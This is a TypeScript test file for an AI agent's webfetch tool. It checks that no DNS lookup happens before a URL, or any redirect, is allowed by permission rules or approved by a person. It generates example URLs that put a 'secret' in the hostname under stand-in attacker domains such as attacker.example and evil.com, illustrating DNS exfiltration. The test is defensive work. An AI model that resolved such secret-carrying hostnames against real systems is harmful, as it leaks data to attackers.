// A host name is data: looking up `<secret>.attacker.example` hands the secret to the
// attacker's name server. webfetch may resolve a name only once its URL is allowed, for the
// URL asked for and for every redirect. The resolver is observed two ways: the system one
// (node:dns, replaced here by a recorder that never touches the network) and one injected
// through the tool context.
import type * as Dns from 'node:dns';
import type * as DnsPromises from 'node:dns/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createToolRegistry } from '../../src/main/agent/tools/registry';
import type { ToolContext } from '../../src/main/agent/tools/types';
import { attendedGate } from '../support/attendedGate';
import { harness, type Harness } from '../support/toolHarness';

const looked = vi.hoisted(() => [] as string[]);
const notFound = (host: string) => Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
vi.mock('node:dns/promises', async (importOriginal) => {
  const real = await importOriginal<typeof DnsPromises>();
  const lookup = async (host: string) => {
    looked.push(host);
    throw notFound(host);
  };
  return { ...real, lookup, default: { ...real, lookup } };
});
vi.mock('node:dns', async (importOriginal) => {
  const real = await importOriginal<typeof Dns>();
  const lookup = (host: string, ...rest: unknown[]) => {
    looked.push(host);
    const cb = rest.pop() as (e: Error) => void;
    process.nextTick(() => cb(notFound(host)));
  };
  const promises = {
    ...real.promises,
    lookup: async (host: string) => {
      looked.push(host);
      throw notFound(host);
    },
  };
  return { ...real, lookup, promises, default: { ...real, lookup, promises } };
});

/** Generated hosts that each carry a "secret" in their first label, in many URL shapes. */
const label = fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,30}[a-z0-9]$/);
const urls = fc.sample(
  fc.tuple(label, fc.constantFrom('example.invalid', 'attacker.example', 'x.y.z.test', 'evil.com'), fc.constantFrom('http', 'https', 'HTTP'), fc.constantFrom('', ':8080', ':443'), fc.constantFrom('/', '/a?b=c', '/#f', ''), fc.boolean()).map(
    ([secret, domain, scheme, port, rest, upper]) => {
      const host = `s3cr3t-${secret}.${domain}`;
      return `${scheme}://${upper ? host.toUpperCase() : host}${port}${rest}`;
    },
  ),
  { numRuns: 24, seed: 8 },
).concat(['http://xn--bcher-kva.example.invalid/', 'http://s3cr3t.example.invalid./', `http://${'a'.repeat(63)}.example.invalid/`]);

const tools = createToolRegistry();
let h: Harness;
let server: http.Server;
let base: string;

beforeAll(async () => {
  server = http.createServer((req, res) => {
    const to = new URL(req.url ?? '/', 'http://x').searchParams.get('to');
    if (to) return res.writeHead(302, { location: to }).end();
    res.writeHead(200, { 'content-type': 'text/plain' }).end('local');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((r) => server.close(() => r())));
beforeEach(async () => {
  h = await harness();
  looked.length = 0;
});
afterEach(() => h.cleanup());

// The rules are the subject, so the folder is trusted with them as written (as `loupe trust` does).
const rules = async (permissions: unknown[]) => {
  await h.write('.loupe/config.json', JSON.stringify({ permissions }));
  await h.trust();
};

const attended = (answer: 'once' | 'deny', events: string[]) => attendedGate(h.root, answer, events, 'ask ');

describe('webfetch resolves no name before its URL is allowed', () => {
  it.each([
    ['no rule (ask, nobody to answer)', []],
    ['a deny rule', [{ kind: 'webfetch', pattern: '*', action: 'deny' }]],
    ['an ask rule', [{ kind: 'webfetch', pattern: '*', action: 'ask' }]],
  ])(`%s: ${urls.length} generated URLs, no lookup`, async (_name, permissions) => {
    await rules(permissions);
    for (const url of urls) {
      const r = await h.call('webfetch', { url });
      expect(r.error?.code, url).toBe('PERMISSION_DENIED');
    }
    expect(looked).toEqual([]);
  });

  it('the recorder sees the system resolver: an allowed URL is looked up once', async () => {
    await rules([{ kind: 'webfetch', pattern: 'http://*.example.invalid/*', action: 'allow' }]);
    expect((await h.call('webfetch', { url: 'http://s3cr3t.example.invalid/' })).error?.code).toBe('FETCH_FAILED');
    expect(looked).toEqual(['s3cr3t.example.invalid']);
  });

  it('a person who refuses: no lookup, through the injected resolver or the system one', async () => {
    const events: string[] = [];
    const ctx: ToolContext = { ...h.ctx, permissions: attended('deny', events), lookup: async (host) => (events.push(`lookup ${host}`), []) };
    for (const url of urls) expect((await tools.call('webfetch', { url }, ctx)).error?.code, url).toBe('PERMISSION_DENIED');
    expect(events.filter((e) => e.startsWith('ask'))).toHaveLength(urls.length);
    expect(events.filter((e) => e.startsWith('lookup'))).toEqual([]);
    expect(looked).toEqual([]);
  });

  it('a person who approves: the card comes first, then the one lookup', async () => {
    const events: string[] = [];
    const ctx: ToolContext = { ...h.ctx, permissions: attended('once', events), lookup: async (host) => (events.push(`lookup ${host}`), Promise.reject(notFound(host))) };
    expect((await tools.call('webfetch', { url: 'http://s3cr3t.example.invalid/' }, ctx)).error?.code).toBe('FETCH_FAILED');
    expect(events).toEqual(['ask GET http://s3cr3t.example.invalid/', 'lookup s3cr3t.example.invalid']);
    expect(looked).toEqual([]);
  });
});

describe('redirects', () => {
  const targets = urls.slice(0, 10).flatMap((u) => [u, u.replace(/^\w+:/, '')]);

  it(`${targets.length} redirects to unapproved hosts are refused before their names are resolved`, async () => {
    await rules([{ kind: 'webfetch', pattern: 'http://127.0.0.1*', action: 'allow' }]);
    for (const to of targets) {
      const r = await h.call('webfetch', { url: `${base}/?to=${encodeURIComponent(to)}` });
      expect(r.error?.code, to).toBe('PERMISSION_DENIED');
      // Two hops: a local redirect first, then the unapproved one.
      const twice = `${base}/?to=${encodeURIComponent(`${base}/?to=${encodeURIComponent(to)}`)}`;
      expect((await h.call('webfetch', { url: twice })).error?.code, to).toBe('PERMISSION_DENIED');
    }
    expect(looked).toEqual([]);
  });

  it('a redirect to a host a deny rule names is refused without a lookup, even after an approved first hop', async () => {
    const events: string[] = [];
    await rules([{ kind: 'webfetch', pattern: 'http://*.example.invalid/*', action: 'deny' }]);
    const ctx: ToolContext = { ...h.ctx, permissions: attended('once', events), lookup: async (host) => (events.push(`lookup ${host}`), []) };
    const r = await tools.call('webfetch', { url: `${base}/?to=${encodeURIComponent('http://s3cr3t.example.invalid/x')}` }, ctx);
    expect(r.error?.code).toBe('PERMISSION_DENIED');
    expect(events.filter((e) => e.startsWith('ask'))).toHaveLength(1);
    expect(events.filter((e) => e.startsWith('lookup'))).toEqual([]);
    expect(looked).toEqual([]);
  });
});
